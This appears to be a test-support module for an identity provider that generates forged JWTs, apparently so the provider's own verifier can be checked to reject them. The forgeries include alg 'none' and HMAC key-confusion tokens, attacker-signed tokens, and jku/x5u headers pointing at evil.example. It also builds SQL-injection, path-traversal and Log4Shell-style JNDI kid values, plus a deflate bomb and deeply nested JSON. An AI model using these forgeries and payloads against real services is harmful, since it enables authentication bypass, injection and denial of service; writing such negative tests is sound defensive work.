"""JWTs that must never be believed, made from one that is good: attack classes T12 to T16."""

import hashlib
import hmac
import json
import zlib
from collections.abc import Iterator, Mapping
from typing import Any

import orjson
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from joserfc.jwk import import_key

from idp.base.jose import Signer, generate
from idp.base.opaque import b64decode, b64encode

ATTACKER = generate("ES256", 2048)


def forgeries(good: str, jwks: Mapping[str, Any], web: str = "https://evil.example") -> Iterator[tuple[str, str]]:
    """(what is wrong, token). `web` is an address that must not be fetched from."""
    head, body, signature = good.split(".")
    header, claims = orjson.loads(b64decode(head)), orjson.loads(b64decode(body))
    raised = {**claims, "sub": "somebody-else", "scope": "openid profile email", "exp": claims["exp"] + 10**6}
    for name in ("none", "None", "NONE", "nOnE", "", "HS256", "ES256K", "RS1"):
        yield f"alg {name}, unsigned", _joined({**header, "alg": name}, claims, b"")
        yield f"alg {name}, with the signature of another", f"{_part({**header, 'alg': name})}.{body}.{signature}"
    yield "no alg", _joined({"typ": header["typ"]}, claims, b"")
    for key in jwks["keys"]:
        yield from _symmetric(header, raised, key)
    yield from _keys_of_the_header(header, raised, web)
    yield from _headers_not_understood(header, claims)
    yield from _shapes(good, head, body, signature, claims)
    yield "changed claims", f"{head}.{_part(raised)}.{signature}"
    yield "changed header", f"{_part({**header, 'typ': 'x'})}.{body}.{signature}"
    yield "attacker's key under our kid", _signed(header, raised)
    yield (
        "attacker's key without a kid",
        _signed({name: value for name, value in header.items() if name != "kid"}, raised),
    )


def _symmetric(
    header: Mapping[str, Any], claims: Mapping[str, Any], key: Mapping[str, Any]
) -> Iterator[tuple[str, str]]:
    """T13: a public key, in every spelling that a library once took for a secret; and no secret at all."""
    public = _public(key)
    spellings = {
        "empty": b"",
        "PEM": public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        "DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "JWK": json.dumps(dict(key)).encode(),
        "x": b64decode(key.get("x") or key["n"]),
    }
    for name, secret in spellings.items():
        for algorithm, hashed in (("HS256", "sha256"), ("HS512", "sha512")):
            message = f"{_part({**header, 'alg': algorithm, 'kid': key['kid']})}.{_part(claims)}"
            mac = hmac.new(secret, message.encode(), hashed).digest()
            yield f"{algorithm} with the {name} of {key['alg']}", f"{message}.{b64encode(mac)}"


def _keys_of_the_header(header: Mapping[str, Any], claims: Mapping[str, Any], web: str) -> Iterator[tuple[str, str]]:
    """T14: a key that the token brings along, or an odd name for one."""
    public = ATTACKER.as_dict(private=False)
    yield "jwk", _signed({**header, "jwk": public}, claims)
    yield "jwk, no kid", _signed({"typ": header["typ"], "jwk": public}, claims)
    for name in ("jku", "x5u"):
        yield name, _signed({**header, name: f"{web}/{name}"}, claims)
    yield "x5c", _signed({**header, "x5c": ["MIIB"]}, claims)
    yield "jwk that is none", _signed({**header, "jwk": 5}, claims)
    for kid in (
        "../../../dev/null",
        "/dev/null",
        "' OR '1'='1",
        "x' UNION SELECT 'k",
        "a" * 4000,
        "\x00",
        "${jndi:ldap://evil.example}",
        "",
    ):
        yield f"kid {kid[:20]!r}", _signed({**header, "kid": kid}, claims)
    odd: tuple[Any, ...] = (None, 1, [], {}, True)
    for kid in odd:
        yield f"kid {kid!r}", _signed({**header, "kid": kid}, claims)


def _headers_not_understood(header: Mapping[str, Any], claims: Mapping[str, Any]) -> Iterator[tuple[str, str]]:
    """T15 and T16."""
    critical: tuple[Any, ...] = (["x"], ["exp"], ["b64"], [], "x", {})
    for crit in critical:
        yield f"crit {crit!r}", _signed({**header, "crit": crit, "x": 1, "b64": True}, claims)
    yield "b64 false", _signed({**header, "b64": False, "crit": ["b64"]}, claims)
    yield (
        "zip",
        f"{_part({**header, 'zip': 'DEF'})}.{b64encode(zlib.compress(b'0' * 10_000_000))}.{b64encode(b'x' * 64)}",
    )
    yield "long header", _signed({**header, "typ": "a" * 12_000}, claims)
    yield "deep header", f"{b64encode(b'[' * 3000)}.e30.e30"
    yield (
        "deep claims",
        f"{_part(header)}.{b64encode(b'{' + chr(34).encode() + b'a' * 10 + b'[' * 3000)}.{b64encode(b'x' * 64)}",
    )


def _shapes(good: str, head: str, body: str, signature: str, claims: Mapping[str, Any]) -> Iterator[tuple[str, str]]:
    yield "JSON serialisation", json.dumps({"payload": body, "protected": head, "signature": signature})
    yield (
        "JSON serialisation, many",
        json.dumps({"payload": body, "signatures": [{"protected": head, "signature": signature}]}),
    )
    yield "five parts", f"{good}.e30.e30"
    yield "two parts", f"{head}.{body}"
    yield "no header", f".{body}.{signature}"
    yield "no claims", f"{head}..{signature}"
    yield "no signature", f"{head}.{body}."
    yield "padding", f"{head}.{body}.{signature}=="
    yield "white space", f"{head}. {body}.{signature}"
    yield "line break", f"{head}.{body}.{signature}\n"
    yield "standard base64", f"{head}.{body}.{signature[:-2]}+/"
    yield "zeros", f"{head}.{body}.{b64encode(bytes(64))}"
    yield "ones", f"{head}.{body}.{b64encode(bytes([255] * 64))}"
    yield "shorter", f"{head}.{body}.{signature[:-4]}"
    yield "longer", f"{head}.{body}.{signature}AAAA"
    yield "signed nothing", f"{head}.{b64encode(b'[]')}.{signature}"
    yield "SHA-256 for a signature", f"{head}.{body}.{b64encode(hashlib.sha256(good.encode()).digest() * 2)}"
    yield "too large", f"{head}.{body}.{'A' * 60_000}"
    yield "not ASCII", f"{head}.{body}.é"
    yield "claims alone", json.dumps(dict(claims))


def _signed(header: Mapping[str, Any], claims: Mapping[str, Any]) -> str:
    message = f"{_part({**header, 'alg': 'ES256'})}.{_part(claims)}".encode()
    return f"{message.decode()}.{b64encode(Signer('ES256', '', ATTACKER.private_key)._signature(message))}"


def _joined(header: Mapping[str, Any], claims: Mapping[str, Any], signature: bytes) -> str:
    return f"{_part(header)}.{_part(claims)}.{b64encode(signature)}"


def _part(value: Mapping[str, Any]) -> str:
    return b64encode(orjson.dumps(dict(value)))


def _public(key: Mapping[str, Any]) -> Any:
    return import_key(dict(key)).public_key
